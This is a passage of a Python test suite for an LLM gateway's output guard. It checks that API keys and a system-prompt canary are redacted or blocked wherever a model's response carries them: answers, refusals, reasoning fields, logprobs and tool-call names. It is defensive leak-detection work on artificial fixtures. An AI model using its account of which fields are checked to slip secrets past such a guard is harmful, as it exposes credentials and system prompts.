        return b"data: " + orjson.dumps(chunk) + b"\n\n"

    data = b"".join(
        [refusal_event(t) for t in tokens] + [event({}, finish="stop"), b"data: [DONE]\n\n"]
    )
    for reads in (None, per_event(data)):
        events, _, _ = await relay(guard(output={"secrets": "redact"}), data, reads)
        dumped = json.dumps(events)
        assert KEY[:10] not in dumped and KEY[10:20] not in dumped and KEY[20:] not in dumped
        assert _field(events, "refusal") == "Here is the key: [REDACTED:api_key]"


@pytest.mark.anyio
@pytest.mark.parametrize("field", ["reasoning_content", "reasoning"])
async def test_secrets_and_the_canary_in_streamed_reasoning_are_redacted(field: str) -> None:
    """vLLM, DeepSeek, OpenRouter and Groq send the model's reasoning in its own field; it
    quotes the system prompt as readily as the answer does. It went out unread."""
    thought = f"The system prompt says {CANARY} and the key {KEY} must stay secret."
    data = b"".join(
        [event({"role": "assistant", "content": ""})]
        + [event({field: p}) for p in small(thought, 7)]
        + [event({"content": "I can't help with that."}), event({}, finish="stop"),
           b"data: [DONE]\n\n"]
    )  # fmt: skip
    g = guard(output={"secrets": "redact", "canary": CANARY, "canary_action": "redact"})
    for reads in (None, per_event(data)):
        events, _, _ = await relay(g, data, reads)
        dumped = json.dumps(events)
        assert KEY[:12] not in dumped and CANARY not in dumped
        assert _field(events, field) == (
            "The system prompt says [REDACTED:canary] and the key [REDACTED:api_key] must stay"
            " secret."
        )
        assert text_of(events) == "I can't help with that."
    # The canary's default action ends the stream.
    sent = await sent_before_block(guard(output={"canary": CANARY}), data)
    assert CANARY not in sent.decode()


@pytest.mark.anyio
async def test_non_streamed_reasoning_is_checked() -> None:
    c = ctx()
    c.response = {"choices": [{"index": 0, "message": {
        "role": "assistant", "content": "ok", "reasoning_content": f"use {KEY}"}}]}  # fmt: skip
    await guard().on_response(c)
    assert c.response["choices"][0]["message"]["reasoning_content"] == "use [REDACTED:api_key]"


@pytest.mark.anyio
async def test_non_streamed_logprobs_are_dropped_when_the_text_is_redacted() -> None:
    g = guard()
    c = ctx()
    lp = {"content": [{"token": KEY, "logprob": -0.1}]}
    c.response = {"choices": [{"index": 0, "message": {"role": "assistant", "content": KEY},
                               "logprobs": lp}]}  # fmt: skip
    await g.on_response(c)
    assert c.response["choices"][0]["message"]["content"] == "[REDACTED:api_key]"
    assert c.response["choices"][0]["logprobs"] is None
    clean = {"content": [{"token": "hi", "logprob": -0.1}]}
    c.response = {"choices": [{"index": 0, "message": {"role": "assistant", "content": "hi"},
                               "logprobs": clean}]}  # fmt: skip
    await g.on_response(c)
    assert c.response["choices"][0]["logprobs"] == clean


@pytest.mark.anyio
@pytest.mark.parametrize("hooked", [True, False])
async def test_a_crlf_split_between_two_reads_is_one_line_break(hooked: bool) -> None:
    """A read ending on the "\\r" of "\\r\\n": the next read's "\\n" used to make the two
    events one (a malformed stream for the parsed relay)."""
    a = event({"content": "Hello"}).replace(b"\n", b"\r\n")
    b = (event({}, finish="stop") + b"data: [DONE]\n\n").replace(b"\n", b"\r\n")
    c = ctx()
    r = _Relay(c, [guard()] if hooked else [], False)
    out = await r.feed(a[:-1]) + await r.feed(a[-1:] + b) + await r.end()
    events = [json.loads(e[6:]) for e in out.split(b"\n\n") if e and e != b"data: [DONE]"]
    assert text_of(events) == "Hello" and out.endswith(b"data: [DONE]\n\n")
    assert events[-1]["choices"][0]["finish_reason"] == "stop"


@pytest.mark.anyio
async def test_usage_in_a_chunk_with_choices_is_counted_with_the_guard_on() -> None:
    last = event({}, finish="stop").replace(
        b"}]}\n\n", b'}],"usage":' + orjson.dumps(USAGE) + b"}\n\n"
    )
    data = event({"content": "Hi there"}) + last + b"data: [DONE]\n\n"
    events, r, _ = await relay(guard(), data)
    assert r.final_usage() == Usage(5, 7)
    assert events[-2]["usage"] == USAGE  # passed on with its chunk


@pytest.mark.anyio
async def test_a_stream_the_guard_ends_keeps_the_upstreams_usage() -> None:
    """The output guard blocks the answer in the same read that carries the usage event: the
    answer was generated (and billed by the provider), so its usage counts, not an estimate of
    the nothing the client got."""
    data = wire(small(TEXT, 7))
    r = _Relay(ctx(), [guard(output={"secrets": "block"})], False)
    with pytest.raises(ContentPolicyError):
        await r.feed(data)
    assert r.final_usage() == Usage(5, 7)


@pytest.mark.anyio
async def test_a_refused_block_without_usage_is_counted_in_the_estimate() -> None:
    data = wire(small(TEXT, 7), usage=False)
    for reads in (None, per_event(data)):
        r = _Relay(ctx(), [guard(output={"secrets": "block"})], False)
        with pytest.raises(ContentPolicyError):
            if reads is None:
                await r.feed(data)
            else:
                pos = 0
                for size in reads:
                    await r.feed(data[pos : pos + size])
                    pos += size
        usage = r.final_usage()
        assert usage.estimated and usage.completion_tokens > 10, usage


@pytest.mark.anyio
async def test_estimated_usage_counts_tool_calls_streamed_and_not() -> None:
    from gateway.proxy import estimate_usage

    data = tool_wire(small(ARGS, 9))
    _, r, _ = await relay(guard(output={"secrets": "flag"}), data)
    streamed = r.final_usage()
    assert streamed.estimated and streamed.completion_tokens > 10, streamed
    c = ctx()
    c.body = {"messages": [{"role": "user", "content": "mail it"}]}
    call = {"id": "c1", "type": "function", "function": {"name": "send_mail", "arguments": ARGS}}
    answer = {"choices": [{"index": 0, "message": {"role": "assistant", "content": None,
                                                   "tool_calls": [call]}}]}  # fmt: skip
    plain = estimate_usage(c, answer)
    assert plain.estimated and plain.completion_tokens == streamed.completion_tokens


@pytest.mark.anyio
async def test_the_canary_as_a_tool_calls_name_ends_the_answer() -> None:
    """Only a call's arguments were read: the canary (or a key) as the name of the function
    went out, streamed or not. A name cannot be redacted, so it blocks."""
    call = {"index": 0, "id": "c1", "type": "function",
            "function": {"name": CANARY, "arguments": ""}}  # fmt: skip
    data = b"".join(
        [event({"role": "assistant", "tool_calls": [call]}),
         event({}, finish="tool_calls"), b"data: [DONE]\n\n"]
    )  # fmt: skip
    g = guard(output={"canary": CANARY, "canary_action": "redact"})
    sent = await sent_before_block(g, data)
    assert CANARY not in sent.decode()
    c = ctx()
    c.response = {"choices": [{"index": 0, "message": {"role": "assistant", "content": None,
        "tool_calls": [{"id": "c1", "type": "function",
                        "function": {"name": CANARY, "arguments": "{}"}}]}}]}  # fmt: skip
    with pytest.raises(ContentPolicyError):
        await g.on_response(c)


@pytest.mark.anyio
@pytest.mark.parametrize("shadow", [False, True])
async def test_a_role_chunk_takes_the_shortcut_only_when_it_holds_nothing_to_check(
    shadow: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``on_chunks`` passes a chunk that only gives the role (no text, or "") as it came,
    without the generic ``_chunk``: whatever text is held, the result is the generic path's.
    Role chunks with text, a refusal, a call or a finish_reason still go through it."""
    from plugins.guard import answer

    g = guard(mode="shadow") if shadow else guard()
    call = [{"index": 0, "id": "c1", "type": "function",
             "function": {"name": "f", "arguments": '{"k": "' + KEY + '"}'}}]  # fmt: skip
    deltas: list[dict[str, Any]] = [
        {"role": "assistant", "content": ""}, {"role": "assistant"},
        {"role": "assistant", "content": None}, {"role": "assistant", "content": "Hi " + KEY},
        {"role": "assistant", "content": "", "refusal": "no " + KEY},
        {"role": "assistant", "tool_calls": call}, {"content": ""}, {},
    ]  # fmt: skip
    shortcut = answer._role_only
    for delta in deltas:
        for finish in (None, "stop"):
            for held in ({}, {0: "Your key: " + KEY[:12]}, {1: "other"}):
                got = []
                for role_only in (shortcut, lambda choice, delta: False):
                    monkeypatch.setattr(answer, "_role_only", role_only)
                    c = ctx()
                    c.scratch["guard"] = {"held": dict(held), "first": None}
                    chunks = await g.on_chunks(c, [json.loads(event(delta, finish=finish)[6:])])
                    got.append((chunks, c.scratch["guard"], c.log))
                assert got[0] == got[1], (delta, finish, held)
